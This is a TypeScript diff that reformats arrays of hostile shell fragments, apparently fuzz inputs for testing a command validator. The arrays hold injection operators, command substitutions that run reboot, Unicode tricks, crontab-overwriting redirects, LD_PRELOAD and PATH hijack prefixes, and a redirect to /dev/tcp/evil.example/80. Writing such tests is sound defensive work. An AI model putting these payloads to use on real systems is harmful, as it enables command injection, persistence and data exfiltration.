@@ -1,47 +1,6 @@
-const OPERATORS = [
-  '; ',
-  ' ;',
-  ' && ',
-  ' || ',
-  ' | ',
-  ' |& ',
-  ' & ',
-  '\n',
-  '\n\n',
-  ' # x\n',
-  ` ;${' '.repeat(500)}`,
-];
-const INSERTED = [
-  '$(reboot)',
-  '"$(reboot)"',
-  '`reboot`',
-  '"`reboot`"',
-  '<(reboot)',
-  '>(reboot)',
-  '${X:-$(reboot)}',
-  '${X@P}',
-  '${X:=y}',
-  '${!X}',
-  '$((X))',
-  '$[X]',
-  '${a[$(reboot)]}',
-  'x\u200b',
-  'x\u202ey',
-  'x\u00a0y',
-  'x\ry',
-  '1<(reboot)',
-];
-const REDIRECTS = [
-  '> /etc/crontab',
-  '>> /etc/crontab',
-  '>| /etc/crontab',
-  '&> /etc/crontab',
-  '>& /etc/crontab',
-  '<> /etc/crontab',
-  '> $F',
-  '2> /etc/crontab',
-  '> /dev/tcp/evil.example/80',
-];
+const OPERATORS = ['; ', ' ;', ' && ', ' || ', ' | ', ' |& ', ' & ', '\n', '\n\n', ' # x\n', ` ;${' '.repeat(500)}`];
+const INSERTED = ['$(reboot)', '"$(reboot)"', '`reboot`', '"`reboot`"', '<(reboot)', '>(reboot)', '${X:-$(reboot)}', '${X@P}', '${X:=y}', '${!X}', '$((X))', '$[X]', '${a[$(reboot)]}', 'x\u200b', 'x\u202ey', 'x\u00a0y', 'x\ry', '1<(reboot)'];
+const REDIRECTS = ['> /etc/crontab', '>> /etc/crontab', '>| /etc/crontab', '&> /etc/crontab', '>& /etc/crontab', '<> /etc/crontab', '> $F', '2> /etc/crontab', '> /dev/tcp/evil.example/80'];
 const PREFIXES = [
   'LD_PRELOAD=/tmp/x ',
   'PATH=/tmp/x ',
@@ -82,9 +41,7 @@ export function hostileVariants(command: string): string[] {
     ...INSERTED.map((inserted) => `${command} ${inserted}`),
     ...REDIRECTS.flatMap((redirect) => [`${command} ${redirect}`, `{ ${command}\n} ${redirect}`]),
     // In front of an assignment another one is harmless.
-    ...PREFIXES.filter((prefix) => prefix !== 'EVIL=1 ' || !/^\w+=\S+;/.test(command)).map(
-      (prefix) => prefix + command,
-    ),
+    ...PREFIXES.filter((prefix) => prefix !== 'EVIL=1 ' || !/^\w+=\S+;/.test(command)).map((prefix) => prefix + command),
     `sh -c '${command.replaceAll("'", "'\\''")}; reboot'`,
     `$X${rest}`,
     `$(echo ${name})${rest}`,
